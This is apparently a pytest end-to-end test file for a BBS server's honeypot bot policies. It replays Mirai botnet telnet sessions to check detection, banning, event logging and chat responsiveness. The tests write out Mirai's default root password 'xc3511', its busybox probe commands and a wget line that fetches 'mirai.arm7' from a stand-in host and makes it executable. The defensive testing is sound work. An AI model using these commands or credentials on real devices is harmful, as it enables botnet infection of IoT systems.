"""Mirai's whole conversation, replayed over a raw socket, under each policy."""

from __future__ import annotations

import json
import time
from pathlib import Path

from tests.e2e.harness import IAC, Server
from tests.events.schema import validate

MIRAI_LINES = ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]


def mirai_login(srv: Server, source: str, password: str = "xc3511"):
    """Connect like Mirai: wait for an IAC, then the login prompt, then type."""
    bot = srv.connect(answer=False, source=source)
    bot.expect(b"ogin: ")
    assert IAC in bot.raw[:3]
    bot.send(b"root\r\n")
    return bot


def events_of(srv: Server, session_ip: str) -> list[dict]:
    """The events of the (ended) sessions from C{session_ip}, once the last is written."""
    logged = srv.events_when(lambda events: any(
        e["eventid"] == "cowrie.session.closed" and e.get("src_ip") == session_ip
        for e in events))
    events = [e for e in logged if e.get("src_ip") == session_ip]
    for e in srv.events():
        assert validate(e) == [], e
    return events


def test_ban_policy_closes_and_bans_at_once(tmp_path):
    srv = Server(tmp_path).start()
    try:
        bot = mirai_login(srv, "127.0.1.1")
        assert bot.closed()
        again = srv.connect(answer=False, source="127.0.1.1")
        assert again.closed() and b"banned" in again.text
        ids = [e["eventid"] for e in events_of(srv, "127.0.1.1")]
        assert ids[:1] == ["cowrie.session.connect"]
        assert "bbs.bot.detected" in ids and "bbs.bot.banned" in ids
        assert "cowrie.session.closed" in ids
    finally:
        srv.stop()


def test_shell_policy_keeps_the_bot_talking_and_records_everything(tmp_path):
    srv = Server(tmp_path, "--bot-policy", "shell", "--shell-net-timeout", "1s").start()
    try:
        bot = mirai_login(srv, "127.0.1.2")
        bot.expect(b"assword: ")
        bot.send(b"xc3511\r\n")
        bot.expect(b"# ")
        for line in MIRAI_LINES:
            bot.send(line.encode() + b"\r\n")
        bot.expect(b"MIRAI: applet not found")
        bot.send(b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n")
        bot.expect(b"ECCHI: applet not found")
        assert b"tmpfs /tmp" in bot.text or b" /tmp " in bot.text
        bot.send(b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; "
                 b"/bin/busybox cat /dev/.nippon\r\n")
        bot.expect(b"kami/dev")
        bot.send(b"cd /tmp || cd /var/run || cd /mnt\r\n")
        bot.send(b"echo -ne '\\x7f\\x45\\x4c\\x46' > upnp\r\n")
        bot.send(b"cat /bin/echo\r\n")
        bot.expect(b"\x7fELF")
        bot.send(b"wget http://203.0.113.50/bins/mirai.arm7 -O - > dvrHelper; chmod 777 dvrHelper\r\n")
        bot.send(b"exit\r\n")
        assert bot.closed()
        events = events_of(srv, "127.0.1.2")
        ids = [e["eventid"] for e in events]
        success = next(e for e in events if e["eventid"] == "cowrie.login.success")
        assert (success["username"], success["password"]) == ("root", "xc3511")
        inputs = [e["input"] for e in events if e["eventid"] == "cowrie.command.input"]
        assert "sh" in inputs
        failed = [e["input"] for e in events if e["eventid"] == "cowrie.command.failed"]
        assert any("MIRAI" in f for f in failed) and "enable" in failed
        download = next(e for e in events if e["eventid"] == "cowrie.session.file_download")
        assert download["url"] == "http://203.0.113.50/bins/mirai.arm7"
        assert download["outfile"].endswith("dvrHelper")
        closed = next(e for e in events if e["eventid"] == "cowrie.log.closed")
        lines = Path(closed["ttylog"]).read_text().splitlines()
        header = json.loads(lines[0])
        assert header["version"] == 2 and header["width"] > 0
        records = [json.loads(x) for x in lines[1:]]
        assert any(r[1] == "i" and "MIRAI" in r[2] for r in records)
        assert any(r[1] == "o" and "kami/dev" in r[2] for r in records)
        assert "bbs.bot.banned" in ids
        refused = srv.connect(answer=False, source="127.0.1.2")
        assert refused.closed() and b"banned" in refused.text
        # The bot never reached a room nor `who`.
        person = srv.login("watcher", source="127.0.1.9")
        person.line("/who")
        person.expect(b"1 user online")
        assert b"root" not in person.text
    finally:
        srv.stop()


def test_log_policy_holds_the_bot_in_the_shell_and_bans_nobody(tmp_path):
    srv = Server(tmp_path, "--bot-policy", "log").start()
    try:
        bot = mirai_login(srv, "127.0.1.3")
        bot.expect(b"assword: ")
        bot.send(b"xc3511\r\nenable\r\nsh\r\n/bin/busybox MIRAI\r\n")
        bot.expect(b"MIRAI: applet not found")
        person = srv.login("watcher", source="127.0.1.9")
        person.line("/who")
        person.expect(b"1 user online")
        bot.send(b"exit\r\n")
        assert bot.closed()
        ids = [e["eventid"] for e in events_of(srv, "127.0.1.3")]
        assert "bbs.bot.detected" in ids and "bbs.bot.banned" not in ids
        assert "bbs.user.login" not in ids
        again = srv.connect(answer=False, source="127.0.1.3")
        again.expect(b"login: ")
    finally:
        srv.stop()


def test_hundreds_of_bots_leave_human_chat_responsive(server):
    alice = server.login("alice", source="127.0.2.1")
    bob = server.login("bob", source="127.0.2.2")
    bots = []
    try:
        for i in range(200):
            bot = server.connect(answer=False, source=f"127.3.{i // 200}.{i % 200 + 1}")
            bot.send(b"root\r\n")
            bots.append(bot)
        start = time.monotonic()
        alice.line("still here?")
        bob.expect(b"<alice> still here\\?", deadline=5)
        assert time.monotonic() - start < 5
        closed = sum(bot.closed(deadline=5) for bot in bots)
        assert closed == len(bots)
    finally:
        for bot in bots:
            bot.close()
